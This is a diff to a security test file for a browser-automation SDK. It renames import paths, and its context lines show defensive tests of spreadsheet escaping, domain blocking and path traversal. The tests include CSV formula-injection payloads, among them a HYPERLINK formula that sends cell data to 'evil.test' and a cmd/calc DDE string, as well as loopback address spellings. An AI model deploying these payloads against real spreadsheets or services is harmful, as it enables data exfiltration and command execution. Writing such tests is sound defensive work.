@@ -84,7 +84,7 @@ def schema_variants(base: str, tmp_path) -> list[tuple[str, dict]]:
 
 
 def test_an_output_schema_never_fetches_what_it_refers_to(canary, tmp_path):
-    from owrl_sdk.outputs import check_output, check_schema
+    from owrl_sdk.formats.outputs import check_output, check_schema
 
     base, hits = canary
     for what, schema in schema_variants(base, tmp_path):
@@ -137,7 +137,7 @@ def listener():
 
 def job_runner(tmp_path, settings=None):
     from owrl_sdk.config import Settings
-    from owrl_sdk.plugins import Plugins
+    from owrl_sdk.contract.plugins import Plugins
     from owrl_sdk.server.runner import JobRunner
 
     return JobRunner(store=None, data_dir=tmp_path, settings=settings or Settings(runs_dir=str(tmp_path)),
@@ -275,7 +275,7 @@ def test_credentials_inside_an_option_never_reach_the_store(tmp_path, options):
 @pytest.mark.parametrize("spelling", ["[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]",
                                       "[::FFFF:7F00:0001]", "[0000::ffff:127.0.0.1]"])
 def test_a_blocked_ipv4_is_blocked_in_every_ipv4_mapped_ipv6_spelling(spelling):
-    from owrl_sdk.domains import DomainPolicy
+    from owrl_sdk.safety.domains import DomainPolicy
 
     with attack("domains", f"blocked 127.0.0.1 reached as {spelling}", "IPv4-mapped IPv6 compared as its IPv4"):
         assert "blocked" in DomainPolicy(blocked=["127.0.0.1"]).refusal(f"http://{spelling}:8080/x")
@@ -325,7 +325,7 @@ async def test_a_blocked_ipv4_reached_as_mapped_ipv6_in_chromium_is_refused_befo
     (".evil.example", "https://b.evil.example/"),
 ])
 def test_blocklist_entries_are_normalised_so_they_block_what_they_name(entry, url):
-    from owrl_sdk.domains import DomainPolicy
+    from owrl_sdk.safety.domains import DomainPolicy
 
     with attack("domains", f"blocklist entry {entry!r} against {url}", "entries normalised when they load"):
         assert DomainPolicy(blocked=[entry]).refusal(url), (entry, url)
@@ -350,7 +350,7 @@ def test_an_entry_that_is_no_host_is_refused_with_its_name(entry, tmp_path):
 @pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
                                    "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"])
 def test_a_value_a_spreadsheet_would_compute_is_written_as_text(value):
-    from owrl_sdk.batch import spreadsheet_safe
+    from owrl_sdk.flows.batch import spreadsheet_safe
 
     with attack("batches", f"batch.csv cell {value[:18]!r}", "a leading apostrophe"):
         assert spreadsheet_safe(value) == "'" + value
@@ -361,8 +361,8 @@ def test_a_value_a_spreadsheet_would_compute_is_written_as_text(value):
 def test_batch_csv_escapes_inputs_and_outputs(tmp_path):
     import csv
 
-    from owrl_sdk.batch import Batch
-    from owrl_sdk.documents import Flow
+    from owrl_sdk.flows.batch import Batch
+    from owrl_sdk.formats.documents import Flow
 
     flow = Flow.model_validate({"task": "find {{input:q}}", "start_url": "about:blank",
                                 "inputs": {"q": {"type": "string"}}, "turns": [{"calls": [{"name": "done"}]}]})
@@ -401,7 +401,7 @@ def test_page_text_printed_by_the_live_view_cannot_drive_the_terminal(what):
 
     from rich.text import Text
 
-    from owrl_sdk.console import SafeConsole
+    from owrl_sdk.support.console import SafeConsole
 
     out = io.StringIO()
     console = SafeConsole(file=out, force_terminal=True, color_system="standard", width=200)
@@ -496,8 +496,8 @@ def test_a_server_without_a_token_refuses_what_a_web_page_can_send(tmp_path):
 ])
 def test_an_input_cannot_make_a_dot_segment_that_climbs_out_of_the_path(template, value):
     from owrl_sdk.errors import UsageError
-    from owrl_sdk.inputs import apply_inputs, fill
-    from owrl_sdk.documents import Flow
+    from owrl_sdk.rules.inputs import apply_inputs, fill
+    from owrl_sdk.formats.documents import Flow
 
     with attack("inputs", f"input {value!r} in {template.split('/', 3)[3]}", "refused as a whole . or .. segment"):
         with pytest.raises(UsageError, match="climb out of the path"):
@@ -633,7 +633,7 @@ def test_a_page_cannot_write_actions_into_a_recording(tmp_path, owrl_page_server
     import asyncio
 
     from owrl_sdk.config import Settings
-    from owrl_sdk.plugins import Plugins
+    from owrl_sdk.contract.plugins import Plugins
     from owrl_sdk.recorder import Recorder
 
     url = owrl_page_server({"/bank": FORGER}) + "bank"
@@ -666,7 +666,7 @@ def test_a_recording_is_held_to_the_allowed_and_blocked_domains(tmp_path):
     import asyncio
 
     from owrl_sdk.config import Settings
-    from owrl_sdk.plugins import Plugins
+    from owrl_sdk.contract.plugins import Plugins
     from owrl_sdk.recorder import Recorder
 
     seen: list[tuple[str, str]] = []
@@ -924,7 +924,7 @@ def test_a_csv_of_a_million_rows_is_refused_at_the_first_row_past_the_cap(tmp_pa
     import time
     import tracemalloc
 
-    from owrl_sdk.batch import read_rows
+    from owrl_sdk.flows.batch import read_rows
     from owrl_sdk.errors import UsageError
 
     for suffix, body in ((".csv", "q\n" + "\n".join(f"v{i}" for i in range(1_000_000)) + "\n"),
@@ -1021,9 +1021,9 @@ def test_the_server_keeps_answering_while_a_csv_at_its_byte_limit_is_read(tmp_pa
 def test_a_batch_holds_its_flow_once_whatever_its_row_count(tmp_path):
     import tracemalloc
 
-    from owrl_sdk.batch import Batch
+    from owrl_sdk.flows.batch import Batch
     from owrl_sdk.config import Settings
-    from owrl_sdk.documents import Flow
+    from owrl_sdk.formats.documents import Flow
 
     calls = [{"name": "click", "arguments": {"selector": f"#b{i}"}} for i in range(2000)]
     flow = Flow.model_validate({"task": "find {{input:q}}", "start_url": "https://shop.example/?q={{input:q}}",
@@ -1043,8 +1043,8 @@ def test_a_batch_holds_its_flow_once_whatever_its_row_count(tmp_path):
     # the row's own flow is what the player runs
     import asyncio
 
-    from owrl_sdk.flowplayer import ScriptedPolicy
-    from owrl_sdk.memory import Context
+    from owrl_sdk.flows.flowplayer import ScriptedPolicy
+    from owrl_sdk.contract.memory import Context
     from owrl_sdk.types import Observation
 
     player = ScriptedPolicy(Settings(runs_dir=str(tmp_path)), flow=flow)
